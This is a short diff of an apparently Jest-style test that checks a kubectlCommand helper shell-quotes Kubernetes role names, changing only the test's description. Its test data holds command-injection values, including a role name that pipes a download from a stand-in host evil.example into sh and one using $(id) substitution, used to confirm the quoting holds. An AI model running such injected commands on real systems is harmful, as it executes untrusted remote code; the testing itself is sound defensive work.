@@ -8,6 +8,6 @@ test.each([
   ["web:reader", "roles.rbac.authorization.k8s.io/web:reader"],
   ["x; curl evil.example|sh", "'roles.rbac.authorization.k8s.io/x; curl evil.example|sh'"],
   ["it's $(id)", "'roles.rbac.authorization.k8s.io/it'\\''s $(id)'"],
-])("a role named %s is one word of a shell", (name, word) => {
+])("a role named %s is quoted as one shell word", (name, word) => {
   expect(kubectlCommand("delete", role, { namespace: "ns", name })).toBe(`kubectl delete ${word} -n ns`);
 });
